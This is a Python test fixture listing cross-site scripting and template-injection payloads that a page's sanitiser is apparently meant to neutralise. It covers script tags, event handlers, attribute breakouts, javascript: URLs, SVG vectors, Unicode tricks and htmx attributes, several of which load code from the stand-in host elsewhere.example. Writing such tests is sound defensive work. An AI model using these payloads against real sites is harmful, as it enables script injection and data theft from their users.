"""Texts that somebody types or imports in the hope that a page runs them. RAN is what each would call."""

RAN = "window.ran=1"
ELSEWHERE = "//elsewhere.example"

SCRIBBLES = (
    # elements
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT >",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</select></option><script>{RAN}</script>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"<style>@import '{ELSEWHERE}/x.css'</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
    f"<object data={ELSEWHERE}/x>",
    f"<embed src={ELSEWHERE}/x>",
    f"<form action={ELSEWHERE}><button>x</button></form>",
    f"<audio src={ELSEWHERE}/x autoplay>",
    f"<video poster={ELSEWHERE}/x.png>",
    "<dialog open>x</dialog>",
    # events
    f"<img src=x onerror={RAN}>",
    f"<img/src=x/onerror={RAN}>",
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f"<p onpointerenter={RAN} style=position:fixed;inset:0>x</p>",
    f"<marquee onstart={RAN}>x</marquee>",
    # out of an attribute
    f'"><svg onload={RAN}>',
    f"'><svg onload={RAN}>",
    f'" onfocus={RAN} autofocus x="',
    f"' onfocus={RAN} autofocus x='",
    f'`"onmouseover={RAN} ',
    '"&#32;onclick&#61;x',
    # addresses
    f"javascript:{RAN}",
    f"<a href=javascript:{RAN} autofocus>x</a>",
    f"data:text/html,<script>{RAN}</script>",
    f"<img src={ELSEWHERE}/x.png>",
    # drawings and formulas
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror={RAN}></math>",
    f"=HYPERLINK('{ELSEWHERE}')",
    # templates and htmx
    "{{ 7 * 7 }}",
    "{% raw %}{{ desk.site }}",
    "${7*7} #{7*7} %(x)s {0.__class__} {name}",
    f"<div hx-get={ELSEWHERE} hx-trigger=load>x</div>",
    f"<div hx-on:load={RAN} data-hx-get=/console/log hx-trigger=load>x</div>",
    # letters
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"\u202e<img src=x onerror={RAN}>\u202c",
    "<\u200bscript>x</\u200bscript>",
    "&lt;b&gt;x&lt;/b&gt; <b>x</b> &amp;amp; &#x3c;",
    # and what no field should hold
    f"<scr\0ipt>{RAN}</scr\0ipt>",
)


def kept(scribble: str) -> str:
    """As a page shows it: without characters that no form field sends, blanks as one."""
    return " ".join(scribble.replace("\0", "").split())
